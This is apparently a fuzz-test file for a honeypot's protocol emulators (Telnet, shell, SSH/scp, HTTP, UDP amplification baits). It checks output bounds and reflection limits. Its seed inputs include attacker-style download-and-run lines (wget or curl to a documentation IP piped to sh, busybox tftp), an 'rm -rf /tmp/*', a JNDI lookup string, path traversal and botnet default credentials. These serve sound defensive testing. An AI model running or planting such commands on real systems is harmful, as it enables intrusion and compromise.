// What strangers type and send at the honeypots, into the pure parts: Telnet, the shell, SSH's first bytes, scp, HTTP, UDP baits.
import { chargenAnswerer } from '#watch/honeypots/chargen/answer.ts';
import { cldapAnswerer } from '#watch/honeypots/cldap/answer.ts';
import { dnsAnswerer } from '#watch/honeypots/dns/answer.ts';
import { findCredentials, findUrls, matchRules } from '#watch/honeypots/http/classify.ts';
import { memcachedAnswerer } from '#watch/honeypots/memcached/answer.ts';
import { ntpAnswerer } from '#watch/honeypots/ntp/answer.ts';
import { createLineEditor } from '#watch/honeypots/shell/line-editor.ts';
import { leftFiles, run as runLine } from '#watch/honeypots/shell/run.ts';
import { newShell } from '#watch/honeypots/shell/state.ts';
import { snmpAnswerer } from '#watch/honeypots/snmp/answer.ts';
import { ssdpAnswerer } from '#watch/honeypots/ssdp/answer.ts';
import { createHelloReader } from '#watch/honeypots/ssh/hassh.ts';
import { createScpReceiver } from '#watch/honeypots/ssh/scp.ts';
import { createTelnetReader } from '#watch/honeypots/telnet/protocol.ts';
import { replyLimit } from '#watch/honeypots/udp/bait.ts';
import { createReflectionLimiter } from '#watch/honeypots/udp/limiter.ts';
import { holds, type Target, utf8 } from '../target.ts';

const now = Date.UTC(2026, 0, 2, 3, 4, 5);
const day = 86_400_000;
const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex');

const scripts = [
  'wget http://198.51.100.9/a.sh -O- | sh; cd /tmp || cd /var; ./x',
  'echo -e "\\x41\\x42" > /tmp/f; cat /tmp/f && rm -rf /tmp/*',
  'for i in 1 2; do echo $(whoami)@`hostname`; done',
  'A=one; echo ${A}two; echo d2hvYW1p | base64 -d | sh',
  '/bin/busybox tftp -g -l m 198.51.100.9; sh -c "echo \'a b\'; exit"',
  'cat /proc/cpuinfo | grep processor | wc -l > x; chmod 777 x; ./x &',
];
const shellWords = [
  '$(',
  ')',
  '`',
  '"',
  "'",
  '|',
  '||',
  '&&',
  ';',
  '>',
  '>>',
  '<',
  '${',
  '}',
  '\\',
  'sh -c ',
  'echo ',
  'base64 -d',
  '/../..',
  '*',
  '\n',
  'busybox ',
];

export const telnet: Target = {
  name: 'honeypots/telnet',
  cases: 500_000,
  words: shellWords,
  samples: () => [
    hex(
      'fffd01 fffd1f fffb1f fffa1f00500018fff0 fffb18 fffa1800 7874 fff0 726f6f740d0a 746f6f720d00 756e616d65202d610d0a',
    ),
    Buffer.from(
      'root\r\nvizxv\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n\x03\x04\x1b[A\x7f\x15',
    ),
    ...scripts.map(line => utf8(`root\r\n${line}\r\n`)),
  ],
  open: () => ({
    run(data) {
      const reader = createTelnetReader();
      const editor = createLineEditor(4_096);
      let state = newShell({ flavour: 'busybox', user: 'root', host: 'router', now });
      let replied = 0;
      const third = Math.ceil(data.length / 3) || 1;
      let lines = 0;
      for (let at = 0; at < data.length; at += third) {
        const { data: typed, reply } = reader.read(data.subarray(at, at + third));
        replied += reply.length;
        for (const line of editor.type(typed, true).lines) {
          if (++lines > 20) break;
          const outcome = runLine(state, line, now);
          holds(outcome.output.length < 2 ** 20, `${outcome.output.length} characters of output`);
          state = outcome.state;
        }
      }
      holds(replied <= 64 * 3 + data.length, `${replied} bytes of negotiation for ${data.length}`);
      leftFiles(state);
    },
  }),
};

export const shell: Target = {
  name: 'honeypots/shell',
  cases: 500_000,
  words: shellWords,
  samples: () => scripts.map(utf8),
  open: () => ({
    run(data) {
      let state = newShell({ flavour: data.length % 2 ? 'server' : 'busybox', user: 'root', host: 'h', now });
      for (const line of data.toString('latin1').split('\n').slice(0, 16)) {
        const outcome = runLine(state, line, now);
        holds(outcome.output.length < 2 ** 20, `${outcome.output.length} characters of output`);
        holds(outcome.events.length < 2_000, `${outcome.events.length} events of a line`);
        state = outcome.state;
      }
    },
  }),
};

const kexLists = Array.from({ length: 10 }, (_, index) => utf8(`algorithm-${index},other`));
const kexInit = Buffer.concat([
  Buffer.from([20, ...Array(16).fill(1)]),
  ...kexLists.flatMap(list => [Buffer.from([0, 0, 0, list.length]), list]),
  Buffer.alloc(5),
]);
const ssh = Buffer.concat([
  utf8('SSH-2.0-OpenSSH_9.2p1\r\n'),
  Buffer.from([0, 0, (kexInit.length + 5) >> 8, (kexInit.length + 5) & 255, 4]),
  kexInit,
  Buffer.alloc(4),
]);

export const transfers: Target = {
  name: 'honeypots/ssh-scp-http',
  cases: 500_000,
  words: [
    'C0644 ',
    'D0755 0 x\n',
    'E\n',
    'T1 0 2 0\n',
    '%2e%2e',
    '%252e',
    '${jndi:ldap://x}',
    'Basic ',
    '../',
    '\0',
    'SSH-2.0-',
  ],
  samples: () => [
    ssh,
    utf8('C0644 5 name\nhello\0E\n'),
    utf8('GET /cgi-bin/;wget%20http://198.51.100.9/x HTTP/1.1'),
    utf8('user=admin&password=%61%62&url=http%3A%2F%2F198.51.100.9%2Fm.sh'),
    utf8('{"username":"a","password":"b","cmd":"curl -s http://198.51.100.9/x|sh"}'),
  ],
  open: () => ({
    run(data) {
      const hello = createHelloReader();
      const half = data.length >> 1;
      if (hello(data.subarray(0, half)) === 'more') hello(data.subarray(half));
      const scp = createScpReceiver();
      const step = scp(data);
      holds(step.reply.length <= data.length + 1, 'scp answers more than it is told');
      holds(step.files.length <= data.length * 2, 'more files than bytes');
      const text = data.toString('latin1');
      const facts = { url: `/${text}`, headers: { authorization: text, 'user-agent': text }, body: text };
      matchRules(facts);
      findCredentials(facts);
      holds(findUrls(facts).length <= 1_000, 'urls without end');
    },
  }),
};

const baits = {
  dns: dnsAnswerer({
    address: '192.0.2.53',
    version: 'x',
    records: { 'example.org': ['192.0.2.1'] },
  } as never),
  ntp: ntpAnswerer({ version: 'ntpd 4', refid: 'GPS' }),
  ssdp: ssdpAnswerer({ server: 'x', location: 'http://192.168.1.1/' }),
  snmp: snmpAnswerer({ communities: ['public'], sysDescr: 'd', sysName: 'n' }),
  cldap: cldapAnswerer({ domain: 'corp.local', host: 'dc01' }),
  memcached: memcachedAnswerer({ version: '1' }),
  chargen: chargenAnswerer({ bytes: 512 }),
};
export const baitQuestions: Record<keyof typeof baits, Buffer> = {
  dns: hex('1234 0100 0001 0000 0000 0000 07 6578616d706c65 03 6f7267 00 00ff 0001'),
  ntp: hex('17 00 03 2a 00000000'),
  ssdp: utf8(
    'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n',
  ),
  snmp: hex('3025 020101 0406 7075626c6963 a518 0204 12345678 0201 00 0202 08ca 3009 3007 0603 2b0601 0500'),
  cldap: hex('3025 020101 6320 0400 0a0100 0a0100 020100 020100 010100 870b 6f626a656374636c617373 3000'),
  memcached: Buffer.concat([hex('0001 0000 0001 0000'), utf8('stats\r\n')]),
  chargen: utf8('x'),
};

/** All baits and their shared limiter: over any history no source gets more than max(its bytes, 4 KiB) a day. */
export const udp: Target = {
  name: 'honeypots/udp-baits',
  cases: 2_000_000,
  samples: () => [...Object.values(baitQuestions), hex('e3 00 04 fa'.padEnd(96, '0'))],
  open() {
    const limiter = createReflectionLimiter();
    const answerers = Object.entries(baits);
    let at = now;
    let turn = 0;
    let accounts = new Map<string, { bytesIn: number; bytesOut: number }>();
    let today = Math.floor(at / day);
    return {
      run(data) {
        turn++;
        // About forty thousand datagrams a day, from a few eager sources and many others.
        at += 2_000;
        if (Math.floor(at / day) !== today) {
          accounts = new Map();
          today = Math.floor(at / day);
        }
        const source = turn % 3 ? `198.51.100.${turn % 5}` : `203.0.${turn % 200}.${(turn * 7) % 250}`;
        const [bait, answer] = answerers[turn % answerers.length]!;
        const { query, reply } = answer(data, at);
        const bytesOut = reply && reply.length <= replyLimit ? reply.length : 0;
        holds(query.length <= 1_000, `a question of ${query.length} characters`);
        const refused = limiter.refuse({ source, bait, bytesIn: data.length, bytesOut, question: query }, at);
        const account = accounts.get(source) ?? { bytesIn: 0, bytesOut: 0 };
        accounts.set(source, account);
        account.bytesIn += data.length;
        if (!refused) account.bytesOut += bytesOut;
        holds(
          account.bytesOut <= Math.max(account.bytesIn, 4_096),
          `${source} sent ${account.bytesIn} bytes and was sent ${account.bytesOut}`,
        );
      },
    };
  },
};
